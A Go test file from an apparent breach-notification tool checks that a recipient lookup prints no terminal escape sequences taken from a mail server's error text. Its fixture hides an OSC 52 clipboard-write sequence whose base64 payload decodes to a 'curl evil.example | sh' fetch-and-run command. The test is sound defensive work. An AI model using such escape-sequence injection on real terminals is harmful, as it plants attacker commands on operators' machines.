package main

import (
	"strings"
	"testing"

	"github.com/breachnotice/breachnotice/internal/breach"
	"github.com/breachnotice/breachnotice/internal/pgtest"
	"github.com/breachnotice/breachnotice/internal/postgres"
)

// A delivery's error is the text of whatever server refused it — an SMTP server the customer
// may run themselves — and can hold terminal escape sequences (here OSC 52, which writes the
// operator's clipboard, and a colour change). `campaign recipient` prints it on the operator's
// terminal: every control character there is shown as a visible replacement, never sent.
func TestCLI_RecipientPrintsNoTerminalEscapesFromAServersError(t *testing.T) {
	id := createCampaign(t)
	for _, args := range [][]string{
		{"import", "--campaign", id, "../../examples/customers.csv"},
		{"campaign", "approve", id},
		{"campaign", "start", id},
	} {
		if _, stderr, err := cli(t, "", args...); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, stderr)
		}
	}
	db, err := postgres.Open(t.Context(), dbURL)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	pgtest.PlanAll(t, db, id, 50_000)
	found := false
	pgtest.Send(t, db, id, breach.ChannelEmail, false, func(cl breach.Claim) *breach.Outcome {
		if cl.Recipient.CustomerID != "AT-100001" {
			return nil
		}
		found = true
		return &breach.Outcome{State: breach.DeliveryFailed,
			Error: "550 5.1.1 \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[31mno such user\u009b0m"}
	})
	if !found {
		t.Fatal("no claim for AT-100001")
	}
	out, stderr, err := cli(t, "", "campaign", "recipient", id, "AT-100001")
	if err != nil {
		t.Fatalf("campaign recipient: %v\n%s", err, stderr)
	}
	if strings.ContainsAny(out, "\x1b\x07\u009b") {
		t.Errorf("the record printed terminal control characters:\n%q", out)
	}
	if !strings.Contains(out, "no such user") {
		t.Errorf("the record lost the error's text:\n%s", out)
	}
}
